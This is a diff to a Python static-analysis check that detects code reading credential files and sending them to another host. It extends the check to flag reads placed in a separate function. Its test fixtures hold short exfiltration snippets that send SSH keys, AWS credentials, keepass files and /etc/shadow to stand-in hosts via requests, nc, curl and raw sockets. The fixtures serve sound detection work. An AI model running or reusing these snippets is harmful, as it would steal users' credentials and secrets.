@@ -10,13 +10,19 @@ from __future__ import annotations
 
 from collections.abc import Iterator
 
+import libcst as cst
+
 from codeguard.checks._api import Bad, Check, Good, Hit, Miss
-from codeguard.checks.malicious._channels import sendings
+from codeguard.checks.malicious._calls import calls
+from codeguard.checks.malicious._channels import places, sendings
 from codeguard.checks.malicious._labels import words
+from codeguard.checks.malicious._reach import READERS, reach
 from codeguard.checks.malicious._shell import commands
 from codeguard.knowledge.malicious import running, stores
 from codeguard.model import Confidence, Severity
 from codeguard.syntax.unit import Unit
+
+MENTIONS = {"path:credential", "path:wallet"}
 
 
 def find(unit: Unit) -> Iterator[Hit]:
@@ -24,11 +30,38 @@ def find(unit: Unit) -> Iterator[Hit]:
     for sending in unit.fact(sendings):
         taken = sending.has("credential", "wallet") or (sending.has("files") if sending.fixed else [])
         if taken:
-            yield Hit(sending.call, f"This sends the contents of {words(taken)} to {sending.where}: whoever runs it loses them")
+            for place in places(sending, unit, *{label.kind for label in taken}):
+                yield Hit(
+                    place, f"This sends the contents of {words(taken)} to {sending.where}: whoever runs it loses them"
+                )
+            yield from _reads(sending.call, unit)
     for command in unit.fact(commands):
-        place = stores.CREDENTIAL_PATH.search(command.text) or stores.WALLET.search(command.text)
-        if place and running.SEND_TOOL.search(command.text) and not stores.PUBLIC_HALF.search(command.text):
-            yield Hit(command.call, f"This command sends `{place.group().strip()}` to another host: whoever runs it loses the credentials in it")
+        mention = stores.CREDENTIAL_PATH.search(command.text) or stores.WALLET.search(command.text)
+        if mention and running.SEND_TOOL.search(command.text) and not stores.PUBLIC_HALF.search(command.text):
+            yield Hit(
+                command.call,
+                f"This command sends `{mention.group().strip()}` to another host: whoever runs it loses the credentials in it",
+            )
+
+
+def _reads(sent: cst.Call, unit: Unit) -> Iterator[Hit]:
+    """The reads of credentials that stand in another function than the sending."""
+    flow = unit.fact(reach)
+    function = unit.function_of(sent)
+    for name, call in unit.fact(calls).of(READERS):
+        if unit.function_of(call) is not function and call.args and flow.kinds(call.args[0].value) & MENTIONS:
+            yield Hit(
+                call,
+                f"`{name.removeprefix('builtins.')}` reads credentials here, which this file sends to another host",
+            )
+    for method in ("read_text", "read_bytes"):
+        for call in unit.fact(calls).by_method.get(method, ()):
+            if (
+                unit.function_of(call) is not function
+                and isinstance(call.func, cst.Attribute)
+                and flow.kinds(call.func.value) & MENTIONS
+            ):
+                yield Hit(call, f"`{method}` reads credentials here, which this file sends to another host")
 
 
 CHECK = Check(
@@ -40,19 +73,44 @@ CHECK = Check(
     find=find,
     fix="Remove the code, and change every credential that it could read.",
     bad=(
-        Bad("import os, glob, requests\n\ndef go():\n    kept = {}\n    for p in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n        with open(p, 'rb') as f:\n            kept[p] = f.read().decode('latin-1')\n    requests.post('https://d.example.invalid/up', json=kept)  # finding\n\ngo()\n"),
-        Bad("import base64, json, urllib.request\nfrom pathlib import Path\nPLACES = ('.aws/credentials', '.netrc')\n\ndef send(u, d):\n    r = urllib.request.Request(u, json.dumps(d).encode(), {})\n    urllib.request.urlopen(r)  # finding\n\ndef take():\n    out = {}\n    for n in PLACES:\n        p = Path.home() / n\n        if p.is_file():\n            out[n] = base64.b64encode(p.read_bytes()).decode()\n    return {'f': out}\n\nsend('https://t.example.invalid/c', take())\n"),
-        Bad("import requests, pathlib\nfor p in pathlib.Path.home().rglob('*.kdbx'):\n    requests.post('https://api.example.invalid/bot0/sendDocument', files={'document': p.open('rb')})  # finding\n"),
-        Bad("import socket, zipfile, os\nz = zipfile.ZipFile('/tmp/a.zip', 'w')\nz.write(os.path.expanduser('~/.gnupg/secring.gpg'))\nz.close()\ns = socket.create_connection(('192.0.2.1', 8080))\ns.sendall(open('/etc/shadow', 'rb').read())  # finding\n"),
+        Bad(
+            "import os, glob, requests\n\ndef go():\n    kept = {}\n    for p in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n        with open(p, 'rb') as f:\n            kept[p] = f.read().decode('latin-1')\n    requests.post('https://d.example.invalid/up', json=kept)  # finding\n\ngo()\n"
+        ),
+        Bad(
+            "import base64, json, urllib.request\nfrom pathlib import Path\nPLACES = ('.aws/credentials', '.netrc')\n\ndef send(u, d):\n    r = urllib.request.Request(u, json.dumps(d).encode(), {})\n    urllib.request.urlopen(r)\n\ndef take():\n    out = {}\n    for n in PLACES:\n        p = Path.home() / n\n        if p.is_file():\n            out[n] = base64.b64encode(p.read_bytes()).decode()  # finding\n    return {'f': out}\n\nsend('https://t.example.invalid/c', take())  # finding\n"
+        ),
+        Bad(
+            "import requests, pathlib\nfor p in pathlib.Path.home().rglob('*.kdbx'):\n    requests.post('https://api.example.invalid/bot0/sendDocument', files={'document': p.open('rb')})  # finding\n"
+        ),
+        Bad(
+            "import socket, zipfile, os\nz = zipfile.ZipFile('/tmp/a.zip', 'w')\nz.write(os.path.expanduser('~/.gnupg/secring.gpg'))\nz.close()\ns = socket.create_connection(('192.0.2.1', 8080))\ns.sendall(open('/etc/shadow', 'rb').read())  # finding\n"
+        ),
         Bad("import os\nos.system('cat ~/.ssh/id_rsa | nc 192.0.2.7 9999')  # finding\n"),
-        Bad("import subprocess\nsubprocess.run(['curl', '-F', 'f=@/root/.aws/credentials', 'https://d.example.invalid'])  # finding\n"),
+        Bad(
+            "import subprocess\nsubprocess.run(['curl', '-F', 'f=@/root/.aws/credentials', 'https://d.example.invalid'])  # finding\n"
+        ),
     ),
     good=(
-        Good("import os, paramiko\n\ndef connect(host, user):\n    key = paramiko.RSAKey.from_private_key_file(os.path.expanduser('~/.ssh/id_rsa'))\n    c = paramiko.SSHClient()\n    c.connect(host, username=user, pkey=key)\n    return c\n"),
-        Good("import netrc, requests\n\ndef fetch(host, path):\n    login, _, password = netrc.netrc().authenticators(host)\n    return requests.get(f'https://{host}{path}', auth=(login, password), timeout=30).text\n"),
-        Good("import json, pathlib, requests\n\ndef api(path):\n    token = json.loads((pathlib.Path.home() / '.config/gh/hosts.yml').read_text())\n    return requests.get('https://api.example.invalid' + path, headers={'Authorization': token}, timeout=9)\n"),
-        Good("import os, tarfile\n\ndef backup(out):\n    with tarfile.open(out, 'w:gz') as tar:\n        tar.add(os.path.expanduser('~/.ssh'))\n"),
-        Good("import os, subprocess\n\ndef copy_key(host):\n    subprocess.run(['scp', os.path.expanduser('~/.ssh/id_ed25519.pub'), f'{host}:k.pub'], check=True)\n"),
+        Good(
+            "import os, paramiko\n\ndef connect(host, user):\n    key = paramiko.RSAKey.from_private_key_file(os.path.expanduser('~/.ssh/id_rsa'))\n    c = paramiko.SSHClient()\n    c.connect(host, username=user, pkey=key)\n    return c\n"
+        ),
+        Good(
+            "import netrc, requests\n\ndef fetch(host, path):\n    login, _, password = netrc.netrc().authenticators(host)\n    return requests.get(f'https://{host}{path}', auth=(login, password), timeout=30).text\n"
+        ),
+        Good(
+            "import json, pathlib, requests\n\ndef api(path):\n    token = json.loads((pathlib.Path.home() / '.config/gh/hosts.yml').read_text())\n    return requests.get('https://api.example.invalid' + path, headers={'Authorization': token}, timeout=9)\n"
+        ),
+        Good(
+            "import os, tarfile\n\ndef backup(out):\n    with tarfile.open(out, 'w:gz') as tar:\n        tar.add(os.path.expanduser('~/.ssh'))\n"
+        ),
+        Good(
+            "import os, subprocess\n\ndef copy_key(host):\n    subprocess.run(['scp', os.path.expanduser('~/.ssh/id_ed25519.pub'), f'{host}:k.pub'], check=True)\n"
+        ),
     ),
-    misses=(Miss("import requests\nfrom places import SECRET\n\nrequests.post('https://d.example.invalid', data=open(SECRET).read())  # finding\n", why="a path that another file names is not known"),),
+    misses=(
+        Miss(
+            "import requests\nfrom places import SECRET\n\nrequests.post('https://d.example.invalid', data=open(SECRET).read())  # finding\n",
+            why="a path that another file names is not known",
+        ),
+    ),
 )
